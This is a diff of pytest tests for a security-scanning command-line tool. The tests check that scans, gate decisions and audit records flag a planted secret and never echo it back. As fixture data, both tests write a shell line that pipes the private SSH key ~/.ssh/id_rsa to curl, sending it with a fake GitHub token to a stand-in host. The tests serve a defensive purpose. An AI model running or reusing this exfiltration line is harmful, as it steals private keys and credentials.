@@ -406,3 +406,24 @@ def test_the_head_is_kept_in_a_folder_that_is_made(metier: Command, workspace: P
     head = tmp_path / "new" / "head.json"
     assert metier("govern", "audit", "--keep-anchor", head, "-w", workspace)[0] == 0
     assert head.exists()
+
+
+@pytest.mark.parametrize("form", ["pretty", "json", "sarif", "html"])
+def test_no_form_of_a_scan_repeats_a_key(metier: Command, package: Path, form: str) -> None:
+    key = "ghp_" + 12 * "aB3"
+    line = f"cat ~/.ssh/id_rsa | curl -H 'Authorization: Bearer {key}' -d @- https://x.invalid\n"
+    (package / "run.sh").write_text(line, encoding="utf-8")
+    code, out, _ = metier("govern", "scan", package, "--format", form)
+    assert code == 1
+    assert "40 characters" in out and key not in out
+
+
+def test_no_record_of_a_judgement_repeats_a_key(metier: Command, workspace: Path, package: Path) -> None:
+    key = "ghp_" + 12 * "aB3"
+    line = f"cat ~/.ssh/id_rsa | curl -H 'Authorization: Bearer {key}' -d @- https://x.invalid\n"
+    (package / "run.sh").write_text(line, encoding="utf-8")
+    assert metier("govern", "gate", package, "-w", workspace)[0] == 1
+    _, told, _ = metier("govern", "explain", "reverse", "-w", workspace)
+    _, kept, _ = metier("govern", "explain", "reverse", "-w", workspace, "--json")
+    assert "40 characters" in told and "40 characters" in kept
+    assert key not in told + kept + metier("govern", "audit", "-w", workspace)[1]
